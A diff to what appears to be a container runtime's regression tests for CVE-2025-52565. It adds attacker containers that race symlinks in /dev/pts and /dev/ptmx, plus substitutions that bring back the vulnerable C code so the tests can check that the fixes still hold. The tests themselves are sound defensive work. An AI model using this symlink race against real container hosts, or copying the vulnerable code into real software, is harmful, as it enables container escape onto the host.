@@ -16,7 +16,7 @@ import subprocess
 import sys
 import time
 
-from hole import BELIEVES, WRITTEN_BY_PATH, Hole, bind, compiled
+from hole import BELIEVES, WRITTEN_BY_PATH, Hole, Watch, bind, compiled
 from oci import ROOT, change
 
 SECONDS = float(os.environ.get("CTR_RACE_SECONDS", 5))
@@ -29,6 +29,10 @@ SEEN_THEN_USED = [("return ctr__openat2(root, path, O_PATH, 0, CTR__IN_ROOT);",
                    "  if (seen < 0) return seen;\n"
                    "  while (*path == '/') path++;\n"
                    "  return ctr__openat2(root, *path ? path : \".\", O_PATH, 0, 0);")]
+
+# How the multiplexer is opened in the directory that was looked at.
+PTMX = ("ctr__openat2(pts, \"ptmx\", O_RDWR | O_NOCTTY, 0,\n" + " " * 34 +
+        "CTR__RESOLVE_NO_XDEV | CTR__RESOLVE_NO_SYMLINKS);")
 
 
 class Race(Hole):
@@ -78,14 +82,18 @@ class Race(Hole):
 
     def start_one(self, config):
         self.path.write_text(json.dumps(config))
-        self.starts += 1
         terminal = {}
         if config["process"].get("terminal"):
             master, terminal["stdin"] = os.openpty()
-        result = self.runtime("run", "--bundle", self.bundle, self.name(self.starts), **terminal)
+        result = self.runtime("run", "--bundle", self.bundle, self.name(self.starts + 1),
+                              **terminal)
         if terminal:
             os.close(master)
             os.close(terminal["stdin"])
+        return self.counted(result)
+
+    def counted(self, result):
+        self.starts += 1
         self.worked += result.returncode == 0
         self.failed = result.stderr.strip() or self.failed
         return result
@@ -95,12 +103,17 @@ class Race(Hole):
         bundle = self.area / "attacker"
         (bundle / "rootfs").mkdir(parents=True)
         shutil.copy(self.swapper, bundle / "rootfs")
-        names = [str(name) for pair in pairs for name in pair]
         config = self.config([bind(directory, str(directory)) for directory, *_ in pairs],
-                             process__args=["/swapper", "swap", *names])
+                             process__args=self.swapping(pairs))
         for path, value in self.own_cgroup("attacker").items():
             change(config, path, value)
         (bundle / "config.json").write_text(json.dumps(config))
+        return self.run_attacker(bundle)
+
+    def swapping(self, pairs):
+        return ["/swapper", "swap", *(str(name) for pair in pairs for name in pair)]
+
+    def run_attacker(self, bundle):
         attacker = self.spawn("run", "--bundle", bundle, self.name("attacker"),
                               stdout=subprocess.PIPE, text=True).process
         self.addCleanup(attacker.stdout.close)
@@ -251,9 +264,10 @@ class CVE_2025_52565(Race):
     """/dev/pts becomes another directory, in which the terminal is a link to a file; or
     /dev/console a link out of the root."""
 
-    without = [("  return ctr__steal_fd(&slave);\n}\n\n/* /dev/ptmx of the container",
-                "  return ctr__openat2(c->root, \"/dev/pts/0\", O_RDWR, 0, CTR__IN_ROOT);\n}\n\n"
-                "/* /dev/ptmx of the container"),
+    without = [("int r = pts < 0 ? pts : ctr__check_devpts(c, pts);", "int r = 0;"),
+               (PTMX, "ctr__openat2(root, \"dev/ptmx\", O_RDWR | O_NOCTTY, 0, CTR__IN_ROOT);"),
+               ("return r < 0 ? r : ctr__steal_fd(&slave);",
+                "return ctr__openat2(c->root, \"/dev/pts/0\", O_RDWR, 0, CTR__IN_ROOT);"),
                ("return r < 0 ? r : (int)ctr__ret(ioctl(0, TIOCSCTTY, 0));", "return r;")]
 
     def prepare(self):
@@ -275,6 +289,54 @@ class CVE_2025_52565(Race):
 
     def hit(self, result):
         return self.on_host(result) or self.target.read_text()
+
+
+class Entered(Race):
+    """Who swaps is root of the container that is entered: /dev, where its devpts is, and what is in
+    it all the time."""
+
+    def prepare(self):
+        for name in ("real", "fake"):
+            (self.volume / name).mkdir()
+        for name in ("fake/ptmx", "fake/0", "link"):
+            (self.volume / name).symlink_to("/target")
+        for name, target in (("pts", "real"), ("pts2", "fake"), ("ptmx", "pts/ptmx")):
+            (self.volume / name).symlink_to(target)
+        self.target = self.rootfs / "target"
+        self.target.write_text("")
+        self.watch = Watch(self.target)
+        self.addCleanup(self.watch.close)
+        return [("/dev", "pts", "pts2"), ("/dev", "ptmx", "link")], [None]
+
+    def attacker(self, pairs):
+        shutil.copy(self.swapper, self.rootfs)
+        devpts = {"destination": "/dev/real", "type": "devpts", "source": "devpts",
+                  "options": ["newinstance", "ptmxmode=0666"]}
+        config = self.config([bind(self.volume, "/dev"), devpts], drop=["/dev"],
+                             process__args=self.swapping(pairs))
+        self.path.write_text(json.dumps(config))
+        return self.run_attacker(self.bundle)
+
+    def start_one(self, _):
+        return self.counted(self.runtime("exec", "--tty", self.name("attacker"), "/probe", "cat",
+                                         "/proc/version"))
+
+    def hit(self, _):
+        return self.target.read_text() or (self.watch.opened() and "it was opened")
+
+
+class CVE_2025_52565_exec_ptmx(Entered):
+    """The multiplexer that was looked at is a link to a file when it is opened."""
+
+    without = [(PTMX, "ctr__openat2(root, \"dev/pts/ptmx\", O_RDWR | O_NOCTTY, 0, CTR__IN_ROOT);")]
+
+
+class CVE_2025_52565_exec_slave(Entered):
+    """The terminal's other end is one as well."""
+
+    without = [("return r < 0 ? r : ctr__steal_fd(&slave);",
+                "return ctr__openat2(AT_FDCWD, \"/dev/pts/0\", O_RDWR, 0, CTR__IN_ROOT);"),
+               ("return r < 0 ? r : (int)ctr__ret(ioctl(0, TIOCSCTTY, 0));", "return r;")]
 
 
 class CopyOfTheHost(Race):
@@ -305,7 +367,7 @@ def everyone():
     command = [sys.executable, __file__]
     running = {cls.__name__: subprocess.Popen([*command, cls.__name__], stdout=subprocess.PIPE,
                                               stderr=subprocess.STDOUT, text=True)
-               for cls in Race.__subclasses__()}
+               for cls in (*Race.__subclasses__(), *Entered.__subclasses__()) if cls.without}
     return {name: process.communicate()[0] for name, process in running.items()}
 
 
